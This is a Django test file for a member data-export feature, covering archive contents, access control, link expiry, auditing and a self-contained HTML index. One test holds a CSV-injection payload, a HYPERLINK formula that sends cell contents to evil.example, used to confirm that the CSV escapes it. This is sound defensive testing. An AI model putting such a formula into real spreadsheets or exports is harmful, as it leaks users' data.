"""Export: the member downloads everything held about them as a zip of JSON and CSV with a
manifest valid against the published schema; links expire; every export is audited."""

import csv
import io
import json
import re
import zipfile
from datetime import timedelta
from pathlib import Path

import jsonschema
import pytest
from django.contrib.staticfiles import finders
from django.urls import reverse
from django.utils import timezone

from privacy.audit.models import AuditEvent
from privacy.member_records import owned_declarations
from privacy.requests.models import DataRequest
from privacy.roles import Role
from tests.accounts.factories import ProfileFactory

pytestmark = pytest.mark.django_db


def _open_zip(response) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))


def _export_via_page(client) -> DataRequest:
    response = client.post(reverse("privacy:export_request"))
    assert response.status_code == 302
    return DataRequest.objects.get(pk=response.url.rstrip("/").split("/")[-1])


def test_member_exports_and_downloads_everything_with_a_valid_manifest(member, member_client):
    ProfileFactory(member=member, username="rosa_public", lifestyle_text="Tango on Sundays")
    data_request = _export_via_page(member_client)
    data_request.refresh_from_db()
    assert data_request.status == DataRequest.Status.COMPLETED
    assert data_request.progress == 100

    page = member_client.get(reverse("privacy:request", args=[data_request.pk]))
    assert "Download my data" in page.content.decode()
    response = member_client.get(reverse("privacy:export_download", args=[data_request.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    archive = _open_zip(response)

    manifest = json.loads(archive.read("manifest.json"))
    schema = json.loads(Path(finders.find("privacy/export-manifest.schema.json")).read_text())
    jsonschema.validate(manifest, schema)
    assert json.loads(archive.read("manifest.schema.json")) == schema

    tables = {t["name"]: t for t in manifest["tables"]}
    assert set(tables) == {d.model._meta.label_lower for d in owned_declarations()}
    user_rows = json.loads(archive.read("accounts.user.json"))
    assert user_rows[0]["login_name"] == "rosa.member"
    assert user_rows[0]["email"] == "rosa.private@example.org"
    assert "password" not in user_rows[0]  # shown to no one, not even the member
    profile_rows = json.loads(archive.read("accounts.publicprofile.json"))
    assert profile_rows[0]["lifestyle_text"] == "Tango on Sundays"
    header, row = list(csv.reader(io.StringIO(archive.read("accounts.user.csv").decode())))
    # CSV headers are people's labels (issue 17); the JSON above keeps the machine names.
    assert row[header.index("ZIP code")] == "90210"
    assert "zip_code" not in header and "Login name" in header

    email_field = next(f for f in tables["accounts.user"]["fields"] if f["name"] == "email")
    assert email_field["category"] == "account"
    assert email_field["purpose"]
    events = set(AuditEvent.objects.values_list("event_type", flat=True))
    assert {"data_request.received", "data_request.export_downloaded"} <= events


def test_the_export_holds_nothing_of_another_member(member, other_member, member_client):
    ProfileFactory(member=other_member, username="otto_public")
    data_request = _export_via_page(member_client)
    archive = _open_zip(
        member_client.get(reverse("privacy:export_download", args=[data_request.pk]))
    )
    everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"otto" not in everything


def test_asking_twice_while_open_makes_one_request(member, member_client):
    DataRequest.objects.create(
        member=member, kind="export", due_at=timezone.now() + timedelta(days=30)
    )
    response = member_client.post(reverse("privacy:export_request"), follow=True)
    assert "already have an open export request" in response.content.decode()
    assert DataRequest.objects.filter(member=member).count() == 1


def test_an_expired_link_answers_410(member, member_client):
    data_request = _export_via_page(member_client)
    DataRequest.objects.filter(pk=data_request.pk).update(
        export_expires_at=timezone.now() - timedelta(seconds=1)
    )
    response = member_client.get(reverse("privacy:export_download", args=[data_request.pk]))
    assert response.status_code == 410
    page = member_client.get(reverse("privacy:request", args=[data_request.pk])).content.decode()
    assert "expired" in page and "Download my data" not in page


def test_another_members_export_answers_404(member, other_member, member_client, client):
    client.force_login(other_member, backend="accounts.backends.LoginNameOrEmailBackend")
    data_request = _export_via_page(client)
    for name in ("privacy:request", "privacy:export_download"):
        assert member_client.get(reverse(name, args=[data_request.pk])).status_code == 404


def test_the_download_link_lasts_seven_days(member, member_client):
    data_request = _export_via_page(member_client)
    data_request.refresh_from_db()
    lasts = data_request.export_expires_at - data_request.completed_at
    assert lasts == timedelta(days=7)


def test_a_privacy_officer_produces_an_export_for_a_member_in_the_admin(
    member, staff_client, mailoutbox
):
    officer = staff_client(Role.PRIVACY_OFFICER)
    response = officer.post(reverse("admin:privacy_datarequest_add"), {"member": member.pk})
    assert response.status_code == 302
    data_request = DataRequest.objects.get(member=member)
    assert data_request.kind == "export"
    assert data_request.status == DataRequest.Status.COMPLETED
    assert [m.to for m in mailoutbox] == [["rosa.private@example.org"]] * 2


def test_staff_without_the_privacy_role_cannot_produce_one(member, staff_client):
    agent = staff_client(Role.SUPPORT_AGENT)
    response = agent.post(reverse("admin:privacy_datarequest_add"), {"member": member.pk})
    assert response.status_code == 403
    assert not DataRequest.objects.exists()


def test_api_creates_lists_and_links_the_download(member, member_api, password):
    response = member_api.post("/api/v1/me/data-requests/", {"kind": "export"}, format="json")
    assert response.status_code == 201
    assert response.json()["status"] == "received"  # built in the background
    body = member_api.get(f"/api/v1/me/data-requests/{response.json()['id']}/").json()
    assert body["status"] == "completed"
    assert body["download_url"].endswith(f"/api/v1/me/data-requests/{body['id']}/download/")
    again = member_api.post("/api/v1/me/data-requests/", {"kind": "export"}, format="json")
    # the first is completed, so a new one is made; a second while open would be the same
    assert again.status_code == 201
    listed = member_api.get("/api/v1/me/data-requests/").json()
    assert listed["count"] == 2
    assert [r["id"] for r in listed["results"]] == [again.json()["id"], body["id"]]
    download = member_api.get(body["download_url"])
    assert download.status_code == 200
    assert "manifest.json" in _open_zip(download).namelist()


def test_api_refuses_unknown_fields_and_kinds(member_api):
    response = member_api.post(
        "/api/v1/me/data-requests/", {"kind": "export", "priority": "now"}, format="json"
    )
    assert response.status_code == 400
    assert "priority" in response.json()["error"]["fields"]
    response = member_api.post("/api/v1/me/data-requests/", {"kind": "everything"}, format="json")
    assert response.status_code == 400


def test_api_detail_of_another_members_request_is_404(member, other_member, api_client):
    data_request = DataRequest.objects.create(
        member=other_member, kind="export", due_at=timezone.now()
    )
    api_client.force_authenticate(member)
    assert api_client.get(f"/api/v1/me/data-requests/{data_request.pk}/").status_code == 404
    assert (
        api_client.get(f"/api/v1/me/data-requests/{data_request.pk}/download/").status_code == 404
    )


def test_visitors_cannot_reach_any_of_it(client, member):
    data_request = DataRequest.objects.create(member=member, kind="export", due_at=timezone.now())
    for url in (
        reverse("privacy:centre"),
        reverse("privacy:request", args=[data_request.pk]),
        reverse("privacy:export_download", args=[data_request.pk]),
    ):
        response = client.get(url)
        assert response.status_code == 302 and "/accounts/login/" in response.url
    assert client.get("/api/v1/me/data-requests/").status_code in (401, 403)


def test_expired_export_files_are_deleted_by_the_scheduled_job(member, member_client):
    from django.core.files.storage import storages

    from privacy.requests.exports import exports_expire

    data_request = _export_via_page(member_client)
    data_request.refresh_from_db()
    assert exports_expire() == 0
    assert storages["exports"].exists(data_request.export_file)
    assert exports_expire(now=data_request.export_expires_at) == 1
    assert not storages["exports"].exists(data_request.export_file)


def test_the_privacy_centre_lists_shares_with_partners(member, member_client):
    from support.models import PartnerShare
    from tests.support.factories import PartnerFactory

    partner = PartnerFactory(name="Dance Class Finder")
    PartnerShare.objects.create(member=member, partner=partner, fields=["email", "city"])
    page = member_client.get(reverse("privacy:centre")).content.decode()
    assert "Dance Class Finder" in page and "email, city" in page


def test_orders_and_tickets_are_in_the_export_but_internal_notes_are_not(member, member_client):
    from tests.orders.factories import OrderFactory
    from tests.support.factories import TicketFactory, TicketNoteFactory

    order = OrderFactory(member=member)
    ticket = TicketFactory(member=member)
    TicketNoteFactory(ticket=ticket, body="Agent-only remark: double-check her refund")
    archive = _open_zip(
        member_client.get(
            reverse("privacy:export_download", args=[_export_via_page(member_client).pk])
        )
    )
    orders = json.loads(archive.read("orders.order.json"))
    assert [o["id"] for o in orders] == [order.pk]
    assert json.loads(archive.read("support.ticket.json"))[0]["subject"] == ticket.subject
    everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"Agent-only remark" not in everything


def test_a_formula_typed_into_a_ticket_is_text_in_the_exports_csv(member, member_client):
    """Opening the CSV in a spreadsheet must not run what was typed (OWASP CSV injection);
    the JSON keeps the text exactly as typed."""
    from tests.support.factories import TicketFactory

    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click for your refund")'
    TicketFactory(member=member, subject=formula)
    archive = _open_zip(
        member_client.get(
            reverse("privacy:export_download", args=[_export_via_page(member_client).pk])
        )
    )

    _header, row = list(csv.reader(io.StringIO(archive.read("support.ticket.csv").decode())))
    # The header row reads people's labels (issue 17); the cell is the escaped text.
    assert "'" + formula in row and formula not in row
    assert json.loads(archive.read("support.ticket.json"))[0]["subject"] == formula


def test_the_export_index_reads_like_a_document_and_loads_nothing(
    member, member_client, staff_client
):
    from privacy.roles import Role
    from tests.orders.factories import OrderFactory

    OrderFactory(member=member)
    officer = staff_client(Role.PRIVACY_OFFICER)
    for _ in range(2):  # two identical openings are one row, "2 times"
        assert (
            officer.get(reverse("admin:accounts_user_change", args=[member.pk])).status_code == 200
        )
    data_request = _export_via_page(member_client)
    archive = _open_zip(
        member_client.get(reverse("privacy:export_download", args=[data_request.pk]))
    )
    assert {"manifest.json", "accounts.user.json", "accounts.user.csv"} <= set(archive.namelist())
    index = archive.read("index.html").decode()

    # Self-contained: no script, nothing fetched from anywhere.
    assert "<script" not in index.lower()
    assert not re.search(r"""(src|href)=["']?(https?:)?//""", index)
    assert "<link" not in index.lower() and "@import" not in index
    # Each category, people's labels, purposes and retention.
    for text in (
        "Account information",
        "Order processing (financial)",
        "Billing ZIP code",
        "ZIP code",
        "Signing in; identifies the account to support.",
        "Kept for the accounting period after the order last changed, then anonymised.",
        "rosa.private@example.org",
    ):
        assert text in index, text
    for machine_name in ("billing_zip", "card_exp_month", "session_generation"):
        assert f">{machine_name}<" not in index
    # The staff accesses, with the role and its purpose, collapsed.
    staff = index.split('id="staff"')[1]
    assert "Privacy officer" in staff and "(2 times)" in staff
    assert "the member&#x27;s privacy requests" in staff or "privacy requests" in staff
